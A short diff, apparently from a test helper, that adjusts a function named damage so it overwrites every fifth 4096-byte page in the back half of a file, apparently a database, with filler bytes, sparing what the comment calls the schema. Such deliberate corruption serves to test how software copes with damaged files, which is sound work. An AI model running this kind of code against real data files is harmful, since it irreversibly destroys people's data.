@@ -113,7 +113,7 @@ def damage(place):
     connection.close()
     with open(place, "r+b") as file:
         size = file.seek(0, 2)
-        for page in range(size // 4096 // 3, size // 4096 - 2, 5):
+        for page in range(size // 4096 // 2, size // 4096 - 2, 5):  # behind the schema
             file.seek(4096 * page)
             file.write(b"\x5a" * 4096)
 
